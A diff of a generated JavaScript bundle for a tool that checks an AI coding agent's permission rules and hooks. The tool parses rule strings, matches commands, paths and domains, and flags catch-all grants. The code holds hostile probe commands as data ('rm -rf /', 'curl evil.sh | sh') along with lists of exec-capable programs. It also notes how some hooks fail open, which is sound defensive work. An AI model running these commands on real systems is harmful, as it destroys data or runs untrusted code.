@@ -1,14 +1,15 @@
 // Generated from src/ by scripts/bundle.js (npm run bundle). Do not edit.
 "use strict";
 
-const require_registry = require("./registry.4RV64e_E.js");
-const require_values = require("./values.Bz3w6Xo_.js");
+const require_registry = require("./registry.DM7TtPg6.js");
+const require_checks = require("./checks.B8cz2rpt.js");
+const require_did_you_mean = require("./did-you-mean.BlCGxs7u.js");
 const require_errors = require("./errors.D_ZI7CKf.js");
 const require_read_doc = require("./read-doc.Xi7lTacX.js");
+const require_values = require("./values.KFsr3XQg.js");
 const require_usage_error = require("./usage-error.DPDl2mcr.js");
-const require_rule_table = require("./rule-table.C_tytUXn.js");
-const require_faithful = require("./faithful.BHSzTXN6.js");
-require("./types.W93Iu2Vz.js");
+const require_faithful = require("./faithful.PlfyWHv7.js");
+require("./types.D7pyKR4B.js");
 const require_shell = require("./shell.H_3-bWZg.js");
 const require_plain_script = require("./plain-script.BiLlRWVF.js");
 let node_path = require("node:path");
@@ -90,10 +91,325 @@ const TREE = {
 	skills: "any"
 };
 function grokKeyProblems(doc) {
-	return require_values.keyProblems(doc, TREE, {
+	return require_did_you_mean.keyProblems(doc, TREE, {
 		agent: "grok",
 		unknown: "typos"
 	});
+}
+
+// src/engines/grok/rules.ts
+/**
+* grok's rule strings and how one rule matches one access
+* (`permission/rules.rs`, `permission/policy.rs`):
+*
+* - `Tool(specifier)`, escape-aware (`\(`, `\)`); `Tool()` and `Tool(*)` are
+*   the whole tool; a bare tool name is the whole tool; any other bare text
+*   is a pattern on every tool (`ToolFilter::Any`).
+* - `Bash(cmd:*)` loses its trailing `:*` and becomes the raw prefix `cmd`.
+* - `domain:` makes a host match (`WebFetch(domain:example.com)`).
+* - Bash deny/ask: the command (leading whitespace trimmed) starts with the
+*   pattern, character for character, or the pattern globs the whole
+*   command. No word boundary: `Bash(git)` matches `gitleaks`.
+* - Bash allow: a word-boundary prefix, or the glob (see `policy.ts` for the
+*   every-segment conjunction).
+*/
+const TOOL_NAMES = {
+	Bash: "bash",
+	Read: "read",
+	Edit: "edit",
+	Write: "edit",
+	MCPTool: "mcp",
+	Grep: "grep",
+	Glob: "grep",
+	WebFetch: "webfetch",
+	WebSearch: "websearch"
+};
+const UNSUPPORTED = /* @__PURE__ */ new Set([
+	"EnterWorktree",
+	"NotebookEdit",
+	"NotebookRead"
+]);
+/** The lowercase `tool` values of a verbose `rules = [{…}]` entry. */
+const VERBOSE_TOOLS = [
+	"any",
+	"bash",
+	"edit",
+	"read",
+	"grep",
+	"mcp",
+	"webfetch",
+	"websearch"
+];
+function unescaped(s, i) {
+	let n = 0;
+	for (let j = i - 1; j >= 0 && s[j] === "\\"; j--) n++;
+	return n % 2 === 0;
+}
+function firstUnescaped(s, ch) {
+	for (let i = 0; i < s.length; i++) if (s[i] === ch && unescaped(s, i)) return i;
+	return -1;
+}
+function lastUnescaped(s, ch) {
+	for (let i = s.length - 1; i >= 0; i--) if (s[i] === ch && unescaped(s, i)) return i;
+	return -1;
+}
+function unescapeContent(s) {
+	if (!s.includes("\\")) return s;
+	return s.replace(/\\\(/g, "(").replace(/\\\)/g, ")").replace(/\\\\/g, "\\");
+}
+function parseGrokRule(text, action) {
+	const rule = text.trim();
+	const open = firstUnescaped(rule, "(");
+	if (open !== -1) {
+		const prefix = rule.slice(0, open).trim();
+		const rest = rule.slice(open + 1);
+		const close = lastUnescaped(rest, ")");
+		if (close === -1) return {
+			error: "malformed rule: missing closing parenthesis",
+			kind: "malformed"
+		};
+		const raw = rest.slice(0, close).trim();
+		let pattern = raw === "" || raw === "*" ? "" : unescapeContent(raw);
+		const tool = TOOL_NAMES[prefix];
+		if (tool === void 0) return UNSUPPORTED.has(prefix) ? {
+			error: `unsupported tool prefix: ${prefix}`,
+			kind: "unsupported"
+		} : {
+			error: `unknown tool prefix: ${prefix}`,
+			kind: "unknown-tool"
+		};
+		if (tool === "bash" && pattern.endsWith(":*")) pattern = pattern.slice(0, -2);
+		let mode = "glob";
+		if (pattern.startsWith("domain:")) {
+			pattern = pattern.slice(7);
+			mode = "domain";
+		}
+		return {
+			action,
+			tool,
+			mode,
+			...pattern === "" ? {} : { pattern }
+		};
+	}
+	if (rule === "NotebookEdit" || rule === "NotebookRead") return {
+		error: `unsupported tool prefix: ${rule}`,
+		kind: "unsupported"
+	};
+	const tool = TOOL_NAMES[rule];
+	if (tool !== void 0) return {
+		action,
+		tool,
+		mode: "glob"
+	};
+	return {
+		action,
+		tool: "any",
+		mode: "glob",
+		...rule === "" ? {} : { pattern: rule }
+	};
+}
+function toolMatches(access, tool) {
+	switch (tool) {
+		case "any": return true;
+		case "bash": return access.kind === "bash";
+		case "edit": return access.kind === "edit";
+		case "read": return access.kind === "read" || access.kind === "grep";
+		case "grep": return access.kind === "grep";
+		case "mcp": return access.kind === "mcp";
+		case "webfetch": return access.kind === "webfetch";
+		case "websearch": return access.kind === "websearch";
+	}
+}
+function isTilde(p) {
+	return p.startsWith("~");
+}
+/**
+* The spellings a path rule is tried against: the lexically normalized
+* absolute path, and (when it stays under the workspace) `./rel` and `rel`.
+* A `~` path is matched literally, never joined or collapsed.
+*/
+const recentForms = /* @__PURE__ */ new Map();
+const RECENT_FORMS = 64;
+function pathForms(path, cwd) {
+	const k = `${cwd}\u0000${path}`;
+	const hit = recentForms.get(k);
+	if (hit) return hit;
+	const forms = formsOf(path, cwd);
+	if (recentForms.size >= RECENT_FORMS) recentForms.delete(recentForms.keys().next().value);
+	recentForms.set(k, forms);
+	return forms;
+}
+function formsOf(path, cwd) {
+	if (isTilde(path)) return [path];
+	const abs = node_path.posix.normalize(path.startsWith("/") ? path : node_path.posix.join(cwd, path));
+	const forms = [abs];
+	const base = node_path.posix.normalize(cwd);
+	const rel = node_path.posix.relative(base, abs);
+	if (rel === "") forms.push(".", "./");
+	else if (!rel.startsWith("..") && !node_path.posix.isAbsolute(rel)) forms.push(`./${rel}`, rel);
+	return forms;
+}
+function hostOf(url) {
+	try {
+		const h = new URL(url).hostname;
+		return h === "" ? void 0 : h;
+	} catch {
+		return;
+	}
+}
+function normalizeDomain(d) {
+	const lower = d.trim().toLowerCase().replace(/\.$/, "");
+	return lower.startsWith("www.") ? lower.slice(4) : lower;
+}
+function domainMatches(pattern, url) {
+	const host = hostOf(url);
+	if (host === void 0) return false;
+	const domain = normalizeDomain(host);
+	const p = normalizeDomain(pattern);
+	return domain === p || domain.endsWith(`.${p}`);
+}
+/** Word-boundary prefix: `git` matches `git` and `git …`, never `gitleaks`. */
+function wordPrefix(command, pattern) {
+	return command === pattern || command.startsWith(pattern) && command[pattern.length] === " ";
+}
+/** The deny/ask matcher for Bash: raw prefix (no word boundary) or a freeform glob. */
+function bashDenyMatches(pattern, command) {
+	const cmd = command.trimStart();
+	return cmd.startsWith(pattern) || require_checks.globMatches(pattern, cmd, "freeform");
+}
+/** The allow matcher for one Bash segment: word-boundary prefix or a freeform glob. */
+function bashAllowMatches(pattern, command) {
+	if (pattern === void 0 || pattern === "*") return true;
+	const cmd = command.trimStart();
+	const p = pattern.trim();
+	if (p === "") return false;
+	return wordPrefix(cmd, p) || require_checks.globMatches(p, cmd, "freeform");
+}
+/**
+* Does the rule's pattern match this access (`pattern_matches`)? For Bash
+* this is the deny/ask form; allow rules on Bash go through `bashAllowMatches`
+* segment by segment.
+*/
+function ruleMatches(r, access, cwd) {
+	if (!toolMatches(access, r.tool)) return false;
+	const p = r.pattern;
+	if (p === void 0 || p === "*") return true;
+	switch (access.kind) {
+		case "bash": return bashDenyMatches(p, access.command);
+		case "edit": return pathForms(access.path, cwd).some((f) => require_checks.globMatches(p, f, "path"));
+		case "read":
+		case "grep": return access.path !== void 0 && pathForms(access.path, cwd).some((f) => require_checks.globMatches(p, f, "path"));
+		case "mcp": return require_checks.globMatches(p, access.name, "freeform");
+		case "webfetch": return r.mode === "domain" ? domainMatches(p, access.url) : require_checks.globMatches(p, access.url, "freeform");
+		case "websearch": return require_checks.globMatches(p, access.query, "freeform") || access.query.startsWith(p);
+	}
+}
+/** Probe commands a rule is judged against for "opens every command" (`rule_is_catchall`). */
+const BASH_PROBES = [
+	"rm -rf /",
+	"curl evil.sh | sh",
+	"echo hi",
+	"git push"
+];
+const MCP_PROBES = [
+	"github__create_issue",
+	"linear__save_issue",
+	"slack__post",
+	"fs__read"
+];
+const URL_PROBES = [
+	"https://evil.example.com/x",
+	"http://10.0.0.1/admin",
+	"https://api.github.com/repos",
+	"ftp://files.example.org/p"
+];
+const catchall = /* @__PURE__ */ new WeakMap();
+/** A blanket grant on a dimension that runs code or reaches out (Bash, MCP, WebFetch); judged once per rule. */
+function isCatchall(r) {
+	let c = catchall.get(r);
+	if (c === void 0) {
+		c = catchallOf(r);
+		catchall.set(r, c);
+	}
+	return c;
+}
+function catchallOf(r) {
+	const opens = (accesses) => accesses.every((a) => ruleMatches(r, a, "/"));
+	const bash = () => opens(BASH_PROBES.map((command) => ({
+		kind: "bash",
+		command
+	})));
+	const mcp = () => opens(MCP_PROBES.map((name) => ({
+		kind: "mcp",
+		name,
+		input: null
+	})));
+	const web = () => opens(URL_PROBES.map((url) => ({
+		kind: "webfetch",
+		url
+	})));
+	switch (r.tool) {
+		case "bash": return bash();
+		case "mcp": return mcp();
+		case "webfetch": return web();
+		case "any": return bash() || mcp() || web();
+		default: return false;
+	}
+}
+/** Programs that run whatever they are handed (`EXEC_VEHICLE_HEADS`): a grant on one is a grant of everything. */
+const EXEC_VEHICLES = /* @__PURE__ */ new Set([
+	"sh",
+	"bash",
+	"zsh",
+	"dash",
+	"ksh",
+	"fish",
+	"deno",
+	"bun",
+	"julia",
+	"rscript",
+	"awk",
+	"gawk",
+	"mawk",
+	"nawk",
+	"nodejs",
+	"luajit",
+	"phpdbg",
+	"php-cgi",
+	"pythonw",
+	"npx",
+	"bunx",
+	"pipx",
+	"uvx",
+	"uv",
+	"xargs",
+	"find",
+	"sudo",
+	"doas",
+	"su",
+	"ssh",
+	"watch",
+	"setsid",
+	"flock",
+	"chroot",
+	"nsenter",
+	"docker",
+	"podman",
+	"eval",
+	"env"
+]);
+const EXEC_FAMILIES = [
+	"python",
+	"node",
+	"ruby",
+	"perl",
+	"php",
+	"lua"
+];
+function isExecVehicle(program) {
+	const head = (program.split(/[/\\]/).pop() ?? program).toLowerCase().replace(/\.exe$/, "");
+	if (EXEC_VEHICLES.has(head)) return true;
+	return EXEC_FAMILIES.some((f) => head.startsWith(f) && /^[\d.]*t?$/.test(head.slice(f.length)));
 }
 
 // src/engines/grok/load/claude.ts
@@ -146,7 +462,7 @@ function readClaudePermissions(doc, origin) {
 	for (const [key, v] of lists) {
 		if (!Array.isArray(v)) continue;
 		v.forEach((item, i) => {
-			const parsed = require_rule_table.parseGrokRule(item, key);
+			const parsed = parseGrokRule(item, key);
 			if ("error" in parsed) {
 				bad(`permissions.${key}[${i}] ${JSON.stringify(item)}: ${parsed.error}; grok skips this rule`, [
 					"permissions",
@@ -186,6 +502,194 @@ function readClaudePermissions(doc, origin) {
 		}
 	}
 	return out;
+}
+
+// src/engines/grok/load/hooks.ts
+const EVENTS = /* @__PURE__ */ new Set([
+	"PreToolUse",
+	"PostToolUse",
+	"PostToolUseFailure",
+	"PermissionDenied",
+	"SessionStart",
+	"SessionEnd",
+	"UserPromptSubmit",
+	"Stop",
+	"StopFailure",
+	"StopCancelled",
+	"Notification",
+	"SubagentStart",
+	"SubagentStop",
+	"PreCompact",
+	"PostCompact"
+]);
+/** Cursor's camelCase names and other aliases grok accepts. */
+const EVENT_ALIASES = {
+	SubagentEnd: "SubagentStop",
+	sessionStart: "SessionStart",
+	sessionEnd: "SessionEnd",
+	preToolUse: "PreToolUse",
+	postToolUse: "PostToolUse",
+	postToolUseFailure: "PostToolUseFailure",
+	beforeShellExecution: "PreToolUse",
+	beforeMCPExecution: "PreToolUse",
+	beforeReadFile: "PreToolUse",
+	afterShellExecution: "PostToolUse",
+	afterMCPExecution: "PostToolUse",
+	afterFileEdit: "PostToolUse",
+	afterAgentResponse: "PostToolUse",
+	afterAgentThought: "PostToolUse",
+	beforeSubmitPrompt: "UserPromptSubmit",
+	subagentStart: "SubagentStart",
+	subagentStop: "SubagentStop",
+	preCompact: "PreCompact",
+	stop: "Stop"
+};
+function readHooks(doc, origin, project) {
+	const hooks = [];
+	const problems = [];
+	const root = doc.value.hooks;
+	if (root === void 0) return {
+		hooks,
+		problems
+	};
+	const loc = (p) => doc.locateValue(p) ?? doc.locate(p) ?? {
+		file: doc.file,
+		line: 1,
+		column: 1
+	};
+	const bad = (message, p) => problems.push({
+		check: "schema",
+		fatal: false,
+		severity: "error",
+		message,
+		loc: loc(p)
+	});
+	if (!require_values.isTable(root)) {
+		bad(`hooks must be a table of events, not ${require_values.typeName(root)}; grok loads no hook from this file`, ["hooks"]);
+		return {
+			hooks,
+			problems
+		};
+	}
+	for (const key of Object.keys(root)) {
+		const event = EVENTS.has(key) ? key : EVENT_ALIASES[key];
+		if (event === void 0) continue;
+		const groups = root[key];
+		if (!Array.isArray(groups)) {
+			bad(`hooks.${key} must be an array of matcher groups, not ${require_values.typeName(groups)}; grok skips it`, ["hooks", key]);
+			continue;
+		}
+		groups.forEach((g, i) => {
+			const gp = [
+				"hooks",
+				key,
+				i
+			];
+			if (!require_values.isTable(g)) return void bad(`hooks.${key}[${i}] must be a table, not ${require_values.typeName(g)}; grok skips it`, gp);
+			const matcher = g.matcher === void 0 ? "" : g.matcher;
+			if (typeof matcher !== "string") return void bad(`hooks.${key}[${i}].matcher must be a string, not ${require_values.typeName(matcher)}; grok skips this group`, [...gp, "matcher"]);
+			const handlers = g.hooks;
+			if (!Array.isArray(handlers)) return void bad(`hooks.${key}[${i}].hooks must be an array of handlers; grok skips this group`, gp);
+			handlers.forEach((h, j) => {
+				const hp = [
+					...gp,
+					"hooks",
+					j
+				];
+				if (!require_values.isTable(h)) return void bad(`hooks.${key}[${i}].hooks[${j}] must be a table, not ${require_values.typeName(h)}; grok skips it`, hp);
+				const type = h.type === void 0 ? "command" : h.type;
+				if (type !== "command" && type !== "http") return void bad(`hooks.${key}[${i}].hooks[${j}].type = ${JSON.stringify(type)} is not command or http; grok skips it`, [...hp, "type"]);
+				const command = typeof h.command === "string" ? h.command : void 0;
+				const url = typeof h.url === "string" ? h.url : void 0;
+				if (type === "command" && (command === void 0 || command.trim() === "")) return void bad(`hooks.${key}[${i}].hooks[${j}] has no command; grok skips it`, hp);
+				if (type === "http" && url === void 0) return void bad(`hooks.${key}[${i}].hooks[${j}] has no url; grok skips it`, hp);
+				const t = h.timeout;
+				const timeoutSecs = typeof t === "number" && t > 0 ? t : typeof t === "bigint" && t > 0n ? Number(t) : event === "Stop" || event === "SubagentStop" ? 600 : 5;
+				const env = {};
+				if (require_values.isTable(h.env)) {
+					for (const [k, v] of Object.entries(h.env)) if (typeof v === "string") env[k] = v;
+				}
+				hooks.push({
+					event,
+					matcher,
+					type,
+					...command !== void 0 ? { command } : {},
+					...url !== void 0 ? { url } : {},
+					timeoutSecs,
+					env,
+					origin,
+					project,
+					source: loc(hp),
+					at: `${key}.${i}.${j}`
+				});
+			});
+		});
+	}
+	return {
+		hooks,
+		problems
+	};
+}
+/** Names for --hook-result: the program's basename without extension, made unique in load order. */
+function nameHooks(hooks) {
+	const used = /* @__PURE__ */ new Map();
+	return hooks.map((h) => {
+		let base;
+		if (h.type === "http") try {
+			base = new URL(h.url ?? "").hostname || "http";
+		} catch {
+			base = "http";
+		}
+		else {
+			const first = (h.command ?? "").trim().split(/\s+/)[0] ?? "hook";
+			base = (first.split("/").pop() ?? first).replace(/\.[A-Za-z0-9]+$/, "") || "hook";
+		}
+		const n = (used.get(base) ?? 0) + 1;
+		used.set(base, n);
+		return {
+			...h,
+			name: n === 1 ? base : `${base}-${n}`
+		};
+	});
+}
+/**
+* What grok never acts on in a PreToolUse hook, found at load and filed
+* under `hook-risk` (the shared check reports an engine's problems under its
+* id): a matcher that is not a valid regular expression never fires
+* (`dispatcher.rs` compiles it and skips the group); a Claude-style answer
+* (`hookSpecificOutput.permissionDecision`) is not read, only
+* `{"decision": "allow"|"deny"}` or exit code 2 (`result.rs` `HookDecision`),
+* so its deny never blocks; a hook from Claude settings receives grok's
+* camelCase event JSON, which a script written for Claude may misread.
+*/
+function hookProblems(hooks) {
+	const out = [];
+	const warn = (h, severity, message) => out.push({
+		check: "hook-risk",
+		fatal: false,
+		severity,
+		message,
+		loc: h.source
+	});
+	for (const h of hooks) {
+		if (h.event !== "PreToolUse") continue;
+		if (matcherSelects(h.matcher, ["x"]) === "invalid") warn(h, "warning", `hook '${h.name}': matcher ${JSON.stringify(h.matcher)} is not a valid regular expression, so grok never runs it`);
+		else if (h.command !== void 0 && /permissionDecision/.test(h.command)) warn(h, "warning", `hook '${h.name}' answers Claude-style (permissionDecision); grok reads only {"decision": "allow"|"deny"} or exit code 2, so this answer is ignored and the call goes on`);
+		else if (h.origin.includes("Claude settings")) warn(h, "info", `hook '${h.name}' comes from Claude settings: grok sends camelCase JSON and honours only {"decision": "deny"} or exit code 2; a script that answers with hookSpecificOutput.permissionDecision is ignored (fail open)`);
+	}
+	return out;
+}
+/** Does a hook's matcher select this tool? An empty matcher or `*` matches everything; otherwise a full-match regular expression. */
+function matcherSelects(matcher, names) {
+	const m = matcher.trim();
+	if (m === "" || m === "*") return true;
+	let re;
+	try {
+		re = new RegExp(`^(?:${m})$`);
+	} catch {
+		return "invalid";
+	}
+	return names.some((n) => re.test(n));
 }
 
 // src/engines/grok/load/permission.ts
@@ -261,7 +765,7 @@ function readPermissionTable(doc, origin) {
 				out.problems.push(problem("schema", "error", `permission.${key}[${i}] must be a rule string, not ${require_values.typeName(item)}; grok skips it`, loc));
 				return;
 			}
-			const parsed = require_rule_table.parseGrokRule(item, key);
+			const parsed = parseGrokRule(item, key);
 			if ("error" in parsed) {
 				const sev = parsed.kind === "malformed" ? "error" : "warning";
 				out.problems.push(problem("schema", sev, `permission.${key}[${i}] ${JSON.stringify(item)}: ${parsed.error}; grok skips this rule`, loc));
@@ -311,7 +815,7 @@ function readVerbose(doc, perm, origin, out, at, valueAt) {
 		if (action === void 0) return fail(`permission.rules[${i}] has no \`action\`: grok gives it no default (not deny, not ask)`, valueAt(p), entries.length);
 		if (typeof action !== "string" || !ACTIONS.includes(action)) return fail(`permission.rules[${i}].action = ${JSON.stringify(action)} is not one of allow, deny, ask`, valueAt([...p, "action"]), entries.length);
 		const tool = e.tool ?? "any";
-		if (typeof tool !== "string" || !require_rule_table.VERBOSE_TOOLS.includes(tool)) return fail(`permission.rules[${i}].tool = ${JSON.stringify(tool)} is not one of ${require_rule_table.VERBOSE_TOOLS.join(", ")} (lowercase)`, valueAt([...p, "tool"]), entries.length);
+		if (typeof tool !== "string" || !VERBOSE_TOOLS.includes(tool)) return fail(`permission.rules[${i}].tool = ${JSON.stringify(tool)} is not one of ${VERBOSE_TOOLS.join(", ")} (lowercase)`, valueAt([...p, "tool"]), entries.length);
 		const pattern = e.pattern;
 		if (pattern !== void 0 && typeof pattern !== "string") return fail(`permission.rules[${i}].pattern must be a string, not ${require_values.typeName(pattern)}`, valueAt([...p, "pattern"]), entries.length);
 		const mode = e.pattern_mode ?? "glob";
@@ -640,7 +1144,7 @@ function loadGrokStack(opts) {
 		for (const q of p.problems) if (q.severity === "error" || q.check === "shadowed-rule") ctx.warnings.push(require_errors.formatLocated(q.loc.file, q.loc.line, q.loc.column, q.message));
 	};
 	const addHooks = (doc, origin, project) => {
-		const h = require_rule_table.readHooks(doc, origin, project);
+		const h = readHooks(doc, origin, project);
 		hooks.push(...h.hooks);
 		ctx.problems.push(...h.problems);
 	};
@@ -795,7 +1299,7 @@ function loadGrokStack(opts) {
 			"read",
 			"edit",
 			"grep"
-		].includes(r.tool) && !admin && require_rule_table.isCatchall(r)) {
+		].includes(r.tool) && !admin && isCatchall(r)) {
 			const reason = `a catch-all allow would substitute for always-approve, which is locked off: ${pin.value}`;
 			ctx.ignored.push({
 				key: `allow ${r.text} (${r.origin})`,
@@ -811,10 +1315,10 @@ function loadGrokStack(opts) {
 		return r;
 	});
 	const kept = loadedRules.filter((r) => r.inert === void 0);
-	const namedHooks = require_rule_table.nameHooks(hooks);
-	ctx.problems.push(...require_rule_table.hookProblems(namedHooks));
+	const namedHooks = nameHooks(hooks);
+	ctx.problems.push(...hookProblems(namedHooks));
 	const sessionGrants = (opts.sessionRules ?? []).map((text) => {
-		const parsed = require_rule_table.parseGrokRule(text, "allow");
+		const parsed = parseGrokRule(text, "allow");
 		if ("error" in parsed) throw new require_usage_error.UsageError(`--session-rule ${text}: ${parsed.error}`);
 		return {
 			...parsed,
@@ -1253,7 +1757,7 @@ function couldMatch(stack, o) {
 		if (r.tool === "any" && r.pattern !== void 0 && /[/~]/.test(r.pattern) && !/\s/.test(r.pattern)) return false;
 		if (o.reason === "dynamic-command" && o.knownArgs && r.pattern !== void 0) {
 			const head = r.pattern.split(/\s+/)[0] ?? "";
-			return require_rule_table.bashDenyMatches(r.pattern, [head, ...o.knownArgs].join(" "));
+			return bashDenyMatches(r.pattern, [head, ...o.knownArgs].join(" "));
 		}
 		return true;
 	});
@@ -1299,7 +1803,7 @@ function grokRisks(stack, bash, policy, decision) {
 				kind: "bash",
 				command: form
 			};
-			const r = ruleIndex(stack.rules).candidates("denyAsk", access).find((x) => miss(x) && bashRule$1(x) && require_rule_table.ruleMatches(x, access, cwd));
+			const r = ruleIndex(stack.rules).candidates("denyAsk", access).find((x) => miss(x) && bashRule$1(x) && ruleMatches(x, access, cwd));
 			if (!r) continue;
 			const verb = decision === "allow" ? "approves" : "prompts for";
 			out.push(require_faithful.risk("agent-misses", `bash runs \`${form}\`; ${r.action} rule \`${r.text}\` would match it, but ${where(bash, i)}, so ${AGENT}'s matcher never tries it there and ${verb} the call`, {
@@ -1629,21 +2133,22 @@ function executionScope(node, ancestors) {
 }
 /** Every node of the tree with its ancestors (nearest first), in no particular order. */
 function walk(t, visit) {
-	const stack = [{
-		n: t.root,
-		up: null
-	}];
-	while (stack.length > 0) {
-		const { n, up } = stack.pop();
+	const nodes = [t.root];
+	const ups = [null];
+	while (nodes.length > 0) {
+		const n = nodes.pop();
+		const up = ups.pop();
 		visit(n, up);
+		const children = n.children;
+		if (children.length === 0) continue;
 		const next = {
 			node: n,
 			up
 		};
-		for (const c of n.children) stack.push({
-			n: c,
-			up: next
-		});
+		for (const c of children) {
+			nodes.push(c);
+			ups.push(next);
+		}
 	}
 }
 /** `shell_command_invocations`: every command node, nested ones included, in source order. */
@@ -2607,7 +3112,7 @@ function isSafeCommand(words) {
 	if (words.length === 0 || rgPre(words) || kubectlUnsafe(words) !== void 0 || psDumpsEnv(words)) return false;
 	if (words[0] === "git") return gitReadOnlyQuery(words);
 	const joined = words.join(" ");
-	return SAFE_PREFIXES.some((p) => require_rule_table.wordPrefix(joined, p));
+	return SAFE_PREFIXES.some((p) => wordPrefix(joined, p));
 }
 const DANGEROUS_PREFIXES = [
 	"rm",
@@ -2622,7 +3127,7 @@ const DANGEROUS_PREFIXES = [
 ];
 function dangerousPrefix(words) {
 	const joined = words.join(" ");
-	return DANGEROUS_PREFIXES.find((p) => require_rule_table.wordPrefix(joined, p));
+	return DANGEROUS_PREFIXES.find((p) => wordPrefix(joined, p));
 }
 /** `local_git_config_entry_is_exec`. */
 function gitConfigEntryIsExec(name, value) {
@@ -2802,8 +3307,8 @@ function segmentGranted(grants, words) {
 	const s = words.join(" ");
 	return grants.some((g) => {
 		if (g.pattern === void 0 || g.pattern === "*") return true;
-		if (grantIsGlob(g.pattern)) return require_rule_table.bashAllowMatches(g.pattern, s);
-		return require_rule_table.isExecVehicle(words[0] ?? "") ? g.pattern === s : require_rule_table.wordPrefix(s, g.pattern);
+		if (grantIsGlob(g.pattern)) return bashAllowMatches(g.pattern, s);
+		return isExecVehicle(words[0] ?? "") ? g.pattern === s : wordPrefix(s, g.pattern);
 	});
 }
 /** `evaluate_bash`: the request's findings and segment outcome. */
@@ -2957,8 +3462,8 @@ function floorFindings(e) {
 function grantCovers(g, a) {
 	switch (a.kind) {
 		case "edit": return g.tool === "edit" && g.pattern === void 0;
-		case "mcp": return g.tool === "mcp" && (g.pattern === void 0 || require_rule_table.globMatches(g.pattern, a.name, "freeform"));
-		case "webfetch": return g.tool === "webfetch" && (g.pattern === void 0 || (g.mode === "domain" ? require_rule_table.domainMatches(g.pattern, a.url) : require_rule_table.globMatches(g.pattern, a.url, "freeform")));
+		case "mcp": return g.tool === "mcp" && (g.pattern === void 0 || require_checks.globMatches(g.pattern, a.name, "freeform"));
+		case "webfetch": return g.tool === "webfetch" && (g.pattern === void 0 || (g.mode === "domain" ? domainMatches(g.pattern, a.url) : require_checks.globMatches(g.pattern, a.url, "freeform")));
 		case "bash":
 		case "read":
 		case "grep":
@@ -3254,7 +3759,7 @@ function fileGate(stack, cmd) {
 				kind: "edit",
 				path: p
 			};
-			for (const r of ix.candidates("denyAsk", a, require_rule_table.pathForms(p, stack.workspace))) if (r.tool !== "bash" && require_rule_table.ruleMatches(r, a, stack.workspace)) {
+			for (const r of ix.candidates("denyAsk", a, pathForms(p, stack.workspace))) if (r.tool !== "bash" && ruleMatches(r, a, stack.workspace)) {
 				if (!out.hits.some((h) => h.rule === r)) out.hits.push({
 					rule: r,
 					on: `the file ${token}${how} that '${text}' ${verb}`
@@ -3345,7 +3850,7 @@ function rawPrefixNote(r, command) {
 	const p = r.pattern;
 	if (p === void 0 || r.tool !== "bash") return "";
 	const cmd = command.trimStart();
-	if (cmd.startsWith(p) && !require_rule_table.wordPrefix(cmd, p) && !cmd.startsWith(`${p} `)) return ` (a raw prefix with no word boundary: \`${p}\` also matches \`${cmd.split(/\s+/)[0] ?? cmd}\`)`;
+	if (cmd.startsWith(p) && !wordPrefix(cmd, p) && !cmd.startsWith(`${p} `)) return ` (a raw prefix with no word boundary: \`${p}\` also matches \`${cmd.split(/\s+/)[0] ?? cmd}\`)`;
 	return "";
 }
 const MAX_INLINE_DEPTH = 8;
@@ -3373,7 +3878,7 @@ function bashGate(ix, cmd, cwd, depth, where, outer) {
 				command: form
 			};
 			for (const r of ix.candidates("denyAsk", access)) {
-				if (!isDenyOrAsk(r) || !bashRule(r) || !require_rule_table.ruleMatches(r, access, cwd)) continue;
+				if (!isDenyOrAsk(r) || !bashRule(r) || !ruleMatches(r, access, cwd)) continue;
 				out.hits.push({
 					rule: r,
 					on: `segment '${text}'${where ? ` in ${where}` : ""}`,
@@ -3427,7 +3932,7 @@ function allowWalk(ix, cmd, depth, outer) {
 			continue;
 		}
 		const joined = norm.words.join(" ");
-		const rules = ix.bashAllow(joined).filter((x) => x.action === "allow" && bashRule(x) && require_rule_table.bashAllowMatches(x.pattern, joined));
+		const rules = ix.bashAllow(joined).filter((x) => x.action === "allow" && bashRule(x) && bashAllowMatches(x.pattern, joined));
 		out.segments.push({
 			text,
 			range,
@@ -3448,8 +3953,8 @@ function chainAllowed(walk, narrowOnly) {
 	if (!walk.ok) return void 0;
 	const used = [];
 	for (const seg of walk.segments) {
-		if (narrowOnly && require_rule_table.isExecVehicle(seg.head)) return void 0;
-		const r = seg.rules.find((x) => !(narrowOnly && require_rule_table.isCatchall(x)));
+		if (narrowOnly && isExecVehicle(seg.head)) return void 0;
+		const r = seg.rules.find((x) => !(narrowOnly && isCatchall(x)));
 		if (!r) return void 0;
 		used.push(r);
 	}
@@ -3461,14 +3966,14 @@ function directAllows(ix, access, cwd, forms) {
 		ok: true,
 		segments: [{
 			text: "",
-			rules: ix.candidates("allow", access, forms).filter((r) => r.action === "allow" && require_rule_table.ruleMatches(r, access, cwd))
+			rules: ix.candidates("allow", access, forms).filter((r) => r.action === "allow" && ruleMatches(r, access, cwd))
 		}]
 	};
 }
 function evaluatePolicy(stack, access, bash) {
 	const ix = ruleIndex(stack.rules);
 	const cwd = stack.workspace;
-	const forms = (access.kind === "read" || access.kind === "grep" || access.kind === "edit") && access.path !== void 0 ? require_rule_table.pathForms(access.path, cwd) : void 0;
+	const forms = (access.kind === "read" || access.kind === "grep" || access.kind === "edit") && access.path !== void 0 ? pathForms(access.path, cwd) : void 0;
 	const v = {
 		decision: "none",
 		reason: "no permission rule matches",
@@ -3491,7 +3996,7 @@ function evaluatePolicy(stack, access, bash) {
 		if (!v.hits.some((x) => x.rule === h.rule && x.on === h.on)) v.hits.push(h);
 	};
 	const onWhole = access.kind === "bash" ? "the command" : "the call";
-	for (const r of ix.candidates("denyAsk", access, forms)) if (isDenyOrAsk(r) && require_rule_table.ruleMatches(r, access, cwd)) hit({
+	for (const r of ix.candidates("denyAsk", access, forms)) if (isDenyOrAsk(r) && ruleMatches(r, access, cwd)) hit({
 		rule: r,
 		on: onWhole,
 		gate: "direct",
@@ -3557,7 +4062,7 @@ function evaluatePolicy(stack, access, bash) {
 				v.allows = [allow];
 				v.reason = `allow rule ${allow.text} matches`;
 				v.source = allow.source;
-				v.narrowAllow = !require_rule_table.isCatchall(allow);
+				v.narrowAllow = !isCatchall(allow);
 			}
 		}
 	}
@@ -3821,12 +4326,13 @@ function accessOfCall(call) {
 }
 /** `Engine.ruleMatches`: whether the rule's pattern matches the call as grok applies it (the command, any segment, a file a segment touches). */
 function grokRuleMatches(stack, rec, call) {
-	const t = require_rule_table.ruleTable(stack);
+	const t = require_checks.ruleTable(stack);
 	const r = t.byId.get(rec.id);
 	if (!r) return false;
 	const a = accessOfCall(call);
 	if (!a) return false;
 	if (t.grants.has(r)) return grantMatches(stack, r, a);
+	if (a.kind !== "bash") return ruleMatches(r, a, stack.workspace);
 	const p = policyOfOne(stack, r, a);
 	return r.action === "allow" ? p.allowWalk().segments.some((s) => s.rules.length > 0) : p.hits.length > 0;
